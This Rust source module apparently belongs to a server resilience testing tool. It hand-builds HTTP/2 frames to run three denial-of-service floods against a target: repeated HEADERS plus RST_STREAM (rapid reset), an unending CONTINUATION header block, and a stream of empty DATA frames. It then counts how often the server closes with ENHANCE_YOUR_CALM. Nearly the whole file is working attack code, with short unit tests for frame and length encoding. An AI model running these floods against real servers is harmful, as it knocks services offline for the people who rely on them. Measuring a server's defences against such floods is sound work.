//! HTTP/2 (RFC 9113) that is legal frame by frame, and costs who sends it nothing. The frames are written by hand.
//!
//! ```text
//!   length 3 │ type 1 │ flags 1 │ stream 4 │ payload
//! ```

use std::io;
use std::pin::pin;
use std::sync::atomic::Ordering::Relaxed;
use std::time::Duration;

use relay::tls::connect_http2;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::net::TcpStream;
use tokio::time::interval;

use super::Counts;
use super::target::{HttpEnd, Target};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types of frames (section 6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

/// Flags of HEADERS.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Error codes (section 7).
const CANCEL: u32 = 8;
const ENHANCE_YOUR_CALM: u32 = 11;

/// Of a frame's head.
const HEAD: usize = 9;

/// Frames that one of them sends at most, and at once.
const MOST: u32 = 100_000;
const AT_ONCE: u32 = 100;

/// How often it sends: what is measured is what they cost who gets them, on the same machine.
const TICK: Duration = Duration::from_millis(10);

/// Octets of a header field in a head that does not end.
const FIELD: usize = 100;

/// Asks for something and takes it back, again and again.
pub(super) async fn reset(
    stream: TcpStream,
    target: &Target,
    number: u64,
    counts: &Counts,
) -> io::Result<()> {
    let end = target.http_end(number);
    let head = head("GET", &end, "/");
    flood(stream, target, &end, counts, &[], |id| {
        let id = 1 + 2 * id;
        let asked = frame(HEADERS, END_STREAM | END_HEADERS, id, &head);
        [asked, frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes())].concat()
    })
    .await
}

/// A head that does not end.
pub(super) async fn go_on(
    stream: TcpStream,
    target: &Target,
    number: u64,
    counts: &Counts,
) -> io::Result<()> {
    let end = target.http_end(number);
    let begun = frame(HEADERS, END_STREAM, 1, &head("GET", &end, "/"));
    flood(stream, target, &end, counts, &begun, |_| {
        frame(CONTINUATION, 0, 1, &literal(b"x", &[b'x'; FIELD]))
    })
    .await
}

/// A body in frames that have nothing in them.
pub(super) async fn send_nothing(
    stream: TcpStream,
    target: &Target,
    number: u64,
    counts: &Counts,
) -> io::Result<()> {
    let end = target.http_end(number);
    let begun = frame(HEADERS, END_HEADERS, 1, &head("PUT", &end, &end.takes));
    flood(stream, target, &end, counts, &begun, |_| {
        frame(DATA, 0, 1, &[])
    })
    .await
}

/// Sends `begun` and then frames without end, until the other end closes.
async fn flood(
    stream: TcpStream,
    target: &Target,
    end: &HttpEnd,
    counts: &Counts,
    begun: &[u8],
    frames: impl Fn(u32) -> Vec<u8>,
) -> io::Result<()> {
    let stream = connect_http2(stream, &end.host, target.roots()).await?;
    let (mut reader, mut writer) = split(stream);
    let send = async {
        writer.write_all(PREFACE).await?;
        writer.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
        writer.write_all(begun).await?;
        let mut ticks = interval(TICK);
        for first in (0..MOST).step_by(AT_ONCE as usize) {
            ticks.tick().await;
            let some: Vec<u8> = (first..first + AT_ONCE).flat_map(&frames).collect();
            writer.write_all(&some).await?;
            writer.flush().await?;
        }
        Ok::<_, io::Error>(())
    };
    let mut heard = pin!(hear(&mut reader));
    let reason = tokio::select! {
        reason = &mut heard => reason,
        // Who cannot send any more may still be told why.
        _ = send => heard.await,
    };
    if reason == Some(ENHANCE_YOUR_CALM) {
        counts.calmed.fetch_add(1, Relaxed);
    }
    Ok(())
}

/// The reason that the other end gives for closing, if it gives one before it does.
async fn hear(reader: &mut (impl AsyncRead + Unpin)) -> Option<u32> {
    let mut reason = None;
    loop {
        let mut head = [0; HEAD];
        if reader.read_exact(&mut head).await.is_err() {
            return reason;
        }
        let [a, b, c, kind, ..] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        if reader.read_exact(&mut payload).await.is_err() {
            return reason;
        }
        // Last stream, reason (section 6.8).
        if kind == GOAWAY
            && let Some(code) = payload.get(4..8).and_then(|code| code.try_into().ok())
        {
            reason = Some(u32::from_be_bytes(code));
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or_default()
        .to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request's head without compression (RFC 7541 section 6.2.2).
fn head(method: &str, end: &HttpEnd, path: &str) -> Vec<u8> {
    [
        literal(b":method", method.as_bytes()),
        literal(b":scheme", b"https"),
        literal(b":authority", end.host.as_bytes()),
        literal(b":path", path.as_bytes()),
    ]
    .concat()
}

fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&[0][..], &counted(name), &counted(value)].concat()
}

/// With its length in front (RFC 7541 sections 5.1 and 5.2).
fn counted(octets: &[u8]) -> Vec<u8> {
    let mut counted = Vec::new();
    match u8::try_from(octets.len()) {
        Ok(length @ 0..127) => counted.push(length),
        _ => {
            counted.push(127);
            let mut rest = octets.len() - 127;
            while rest >= 128 {
                counted.push((rest % 128) as u8 | 128);
                rest /= 128;
            }
            counted.push(rest as u8);
        }
    }
    counted.extend(octets);
    counted
}

#[cfg(test)]
mod tests {
    use super::*;

    /// RFC 7541 appendix C.1.2 has 1337 behind five bits; these are seven.
    #[test]
    fn lengths_are_written_as_the_standard_says() {
        for (length, written) in [
            (3, &[3][..]),
            (126, &[126]),
            (127, &[127, 0]),
            (1337, &[127, 0xba, 9]),
        ] {
            let octets = vec![b'x'; length];
            assert_eq!(counted(&octets)[..written.len()], *written);
            assert_eq!(counted(&octets).len(), written.len() + length);
        }
    }

    #[test]
    fn a_frame_has_its_head() {
        let octets = frame(RST_STREAM, 0, 5, &CANCEL.to_be_bytes());
        assert_eq!(octets, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }
}
